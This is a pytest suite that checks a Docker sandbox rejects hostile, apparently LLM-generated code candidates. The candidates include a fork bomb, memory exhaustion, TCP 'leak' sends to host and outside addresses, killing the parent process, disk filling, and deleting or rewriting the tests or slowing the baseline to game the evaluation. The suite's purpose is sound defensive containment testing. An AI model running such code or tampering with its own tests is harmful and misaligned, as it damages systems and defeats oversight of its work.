"""Containment at the verdict level: hostile candidates go through the real gate in a real container.

Each case replaces the target's source file with a version that computes the right answer faster
(so only containment can reject it) and also tries one escape. Every case must end in a rejecting
verdict whose reason names what stopped it, with the host repo untouched, nothing listening on the
host contacted, and no process left in the container.
"""

from __future__ import annotations

import hashlib
import re
import socket
import textwrap
import threading
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from optimizer_agent.sandbox.daemon import RUN_LABEL
from optimizer_agent.sandbox.docker import KEEPER, DockerConfig, DockerSandbox
from optimizer_agent.state import Candidate, FunctionRef
from optimizer_agent.verify.gate import BasicGate, GateRequest
from optimizer_agent.verify.testrun import run_tests
from optimizer_agent.verify.timing import TimingPolicy

from .conftest import write_tree

pytestmark = pytest.mark.docker

SOURCE = "pkg/mod.py"
PROJECT = {
    "pkg/__init__.py": "",
    SOURCE: '''
        def target(n):
            """Sum of the squares below n."""
            total = 0
            for i in range(n):
                total += i * i
            return total
    ''',
    "tests/test_mod.py": """
        from pkg.mod import target

        def test_small():
            assert target(4) == 14
    """,
    "tests/test_more.py": """
        from pkg.mod import target

        def test_zero():
            assert target(0) == 0

        def test_large():
            assert target(1000) == sum(i * i for i in range(1000))
    """,
    "bench.py": """
        from pkg.mod import target

        for _ in range(30):
            target(20_000)
    """,
}
TEST_CMD = "python -m pytest -q -p no:cacheprovider"
BENCH_CMD = "python bench.py"
TEST_TIMEOUT_S = 15.0
POLICY = TimingPolicy(min_rounds=4, max_rounds=8, time_budget_s=30, run_timeout_s=15)
FAST = "return (n - 1) * n * (2 * n - 1) // 6 if n > 0 else 0"
BASE = "base"
IDLE_PROCS = sorted([f"bash -c {KEEPER}", "sleep 86400"])


@dataclass
class Case:
    """One hostile candidate: module-level code, the body of `target`, and what its reason must say."""

    name: str
    reason: str
    """A regular expression the verdict's reason must match."""
    prelude: str = ""
    body: str = FAST

    def source(self, port: int) -> str:
        """The candidate's text of pkg/mod.py."""
        prelude = textwrap.dedent(self.prelude).replace("PORT", str(port))
        body = textwrap.indent(textwrap.dedent(self.body).replace("PORT", str(port)), "    ")
        return f"{prelude}\n\ndef target(n):\n    \"\"\"Sum of the squares below n.\"\"\"\n{body}\n"


CASES = [
    Case("tcp-loopback", r"tests failed: .*(ConnectionRefusedError|Connection refused)", body="""
        import socket
        socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"leak")
        return (n - 1) * n * (2 * n - 1) // 6 if n > 0 else 0
    """),
    Case("tcp-outside", r"tests failed: .*Network is unreachable", body="""
        import socket
        for host in ("172.17.0.1", "1.1.1.1"):
            socket.create_connection((host, PORT), timeout=3).sendall(b"leak")
        return (n - 1) * n * (2 * n - 1) // 6 if n > 0 else 0
    """),
    # Every process forks forever; the descendants retry slowly once refused, so the limit (not the CPU) decides.
    Case("fork-bomb", r"^tests stopped by the pids limit", body="""
        import os, time
        root = os.getpid()
        while True:
            try:
                os.fork()
            except OSError:
                if os.getpid() == root:
                    raise
                time.sleep(1)
    """),
    Case("allocate-8GiB", r"memory limit", body="""
        hoard = [bytearray(256 * 1024**2) for _ in range(32)]
        return (n - 1) * n * (2 * n - 1) // 6 if n > 0 else 0
    """),
    Case("loop-forever", rf"timed out after {TEST_TIMEOUT_S:g}s", body="""
        while True:
            pass
    """),
    Case("write-repo-mount", r"Permission denied: '/repo/pkg/mod\.py'", prelude="""
        with open("/repo/pkg/mod.py", "a") as handle:
            handle.write("# was here")
    """),
    Case("delete-tests", r"tests failed: .*Permission denied: '/work/cand-delete-tests/tests/test_", prelude="""
        import pathlib
        for test in sorted(pathlib.Path(__file__).resolve().parents[1].glob("tests/test_*.py")):
            test.unlink()
    """),
    # The rewrite fails silently, so the wrong answer meets the original tests.
    Case("rewrite-tests", r"tests failed: .*test_small", prelude="""
        import pathlib
        for test in pathlib.Path(__file__).resolve().parents[1].glob("tests/test_*.py"):
            try:
                test.write_text("def test_fine():\\n    pass\\n")
            except OSError:
                pass
    """, body="return 0"),
    Case("slow-down-the-base", r"Permission denied: '/work/base/pkg/mod\.py'", prelude="""
        with open("/work/base/pkg/mod.py", "a") as handle:
            handle.write("\\nimport time\\ntime.sleep(1)\\n")
    """),
    Case("kill-parent", r"killed its parent", body="""
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        return (n - 1) * n * (2 * n - 1) // 6 if n > 0 else 0
    """),
    Case("fill-tmp", r"No space left on device", body="""
        with open("/tmp/fill", "wb") as handle:
            for _ in range(700):
                handle.write(bytes(1024**2))
        return (n - 1) * n * (2 * n - 1) // 6 if n > 0 else 0
    """),
]


def _tree_digest(root: Path) -> str:
    """A hash of every file's path and bytes under `root`."""
    digest = hashlib.sha256()
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        digest.update(str(path.relative_to(root)).encode() + b"\0" + path.read_bytes())
    return digest.hexdigest()


def _procs(sandbox: DockerSandbox) -> list[str]:
    """Command lines of every process in the container, seen from the host."""
    top = sandbox.client.api.top(sandbox.container_id, ps_args="-eo pid,args")
    return sorted(row[-1] for row in top["Processes"])


class _Listener:
    """A TCP server on every host address that records whether anyone connected."""

    def __init__(self) -> None:
        self.server = socket.create_server(("0.0.0.0", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    """The target project on the host; the container sees it read-only at /repo."""
    return write_tree(tmp_path_factory.mktemp("contained"), PROJECT)


@pytest.fixture(scope="module")
def listener():
    server = _Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def judged(docker_client, sandbox_image, project):
    """A sandbox with the base tree staged and its baseline tests run, plus a function that judges one case."""
    run_id = f"pytest-containment-{uuid.uuid4().hex[:8]}"
    sandbox = DockerSandbox(DockerConfig(image=sandbox_image, run_id=run_id, repo=project), client=docker_client)
    try:
        base_dir = sandbox.stage(project, BASE)
        baseline = run_tests(sandbox, TEST_CMD, base_dir, TEST_TIMEOUT_S)
        assert baseline.ok and baseline.passed == 3, baseline.output_tail

        def judge(case: Case, port: int):
            source = case.source(port)
            cand_dir = sandbox.stage(project, f"cand-{case.name}")
            sandbox.write_file(f"{cand_dir}/{SOURCE}", source)
            candidate = Candidate(
                id=case.name, function=FunctionRef(file=SOURCE, qualname="target"), plan_id="containment",
                skills=[], origin="llm", source=source, diff="",
            )
            request = GateRequest(
                candidate=candidate, sandbox=sandbox, base_dir=base_dir, cand_dir=cand_dir,
                original_source=(project / SOURCE).read_text(), allowed_files=[SOURCE], test_cmd=TEST_CMD,
                bench_cmd=BENCH_CMD, baseline_tests=baseline, test_timeout=TEST_TIMEOUT_S, policy=POLICY,
                # The static guards would stop most of these before they run; this suite is about the sandbox.
                guards=False,
            )
            try:
                return BasicGate().judge(request)
            finally:
                sandbox.remove(cand_dir)
                sandbox.clear_scratch()

        yield sandbox, base_dir, judge
    finally:
        sandbox.cleanup()
    assert docker_client.containers.list(all=True, filters={"label": f"{RUN_LABEL}={run_id}"}) == []


def test_an_honest_candidate_is_accepted(judged, listener):
    """The control: the same candidates without their escape attempt pass this gate."""
    sandbox, _, judge = judged
    verdict = judge(Case("honest", r""), listener.port)
    assert verdict.accepted, verdict.reason


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_candidate_is_rejected_by_what_stopped_it(case, judged, listener, project):
    sandbox, base_dir, judge = judged
    host_before = _tree_digest(project)
    base_before = sandbox.execute("cat pkg/mod.py tests/*.py | sha256sum", base_dir, timeout=30).stdout

    verdict = judge(case, listener.port)

    assert not verdict.accepted
    assert re.search(case.reason, verdict.reason), verdict.reason
    assert _tree_digest(project) == host_before, "the host repo changed"
    assert listener.connections == 0, "a candidate reached a host port"
    assert sandbox.execute("cat pkg/mod.py tests/*.py | sha256sum", base_dir, timeout=30).stdout == base_before
    assert _procs(sandbox) == IDLE_PROCS
    # Nothing the candidate left behind stops the next command.
    after = sandbox.execute("echo alive > /tmp/probe && cat /tmp/probe", base_dir, timeout=30)
    assert after.stdout == "alive\n", after.tail()


def test_a_limit_hit_during_timing_is_named_in_the_benchmark_error(judged, project):
    """Past the tests, the timing runs are just as contained, and their error says which limit stopped them."""
    from optimizer_agent.verify.timing import measure

    sandbox, base_dir, _ = judged
    cand_dir = sandbox.stage(project, "cand-bench-hog")
    try:
        sandbox.write_file(f"{cand_dir}/bench.py", "hoard = [bytearray(256 * 1024**2) for _ in range(32)]\n")
        result = measure(sandbox, BENCH_CMD, base_dir, cand_dir, POLICY)
    finally:
        sandbox.remove(cand_dir)
    assert result.stopped == "error" and result.error_side == "candidate"
    assert result.error.startswith("exit 137, stopped by the memory limit (OOM kill)"), result.error
    assert _procs(sandbox) == IDLE_PROCS
